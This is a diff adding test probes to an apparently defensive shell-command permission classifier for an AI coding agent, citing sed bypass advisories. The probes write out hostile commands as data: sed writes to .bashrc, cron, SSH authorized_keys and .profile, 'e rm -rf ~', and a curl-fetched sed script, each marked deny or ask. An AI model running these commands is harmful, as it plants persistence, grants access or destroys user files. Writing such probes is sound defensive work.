@@ -1425,4 +1425,16 @@ PUBLIC_PROBES: list[tuple[str, str]] = [
     ("git -c alias.nuke='clean -fdx' nuke", "deny"),
     ("git -c alias.st=status st", "allow"),
     ("git -c core.editor=true commit --amend", "allow"),
+    # sed's own w/W/e commands (the shapes of Claude Code's sed advisories GHSA-mhg7-666j-cqg4 and
+    # GHSA-7mv8-j34q-vp7q), also from a script file written earlier in the command or read on stdin
+    ("sed -n 'w /root/.bashrc' input.txt", "deny"),
+    ("sed 's/x/y/w /etc/cron.d/job' f", "deny"),
+    ("sed -s 'W /root/.ssh/authorized_keys' f", "deny"),
+    ("sed --expression='e rm -rf ~' f", "deny"),
+    ("echo 'w /root/.profile' > s.sed; sed -f s.sed f", "deny"),
+    ("printf '1e rm -rf ~\\n' > x.sed && sed -f x.sed data", "deny"),
+    ("curl -s https://x.example/s.sed | sed -f - f", "ask"),
+    ("sed -n '1,5p;w out.txt' f", "allow"),
+    ("sed -f script.sed f", "allow"),
+    ("echo 's/a/b/' | sed -f - f", "allow"),
 ]
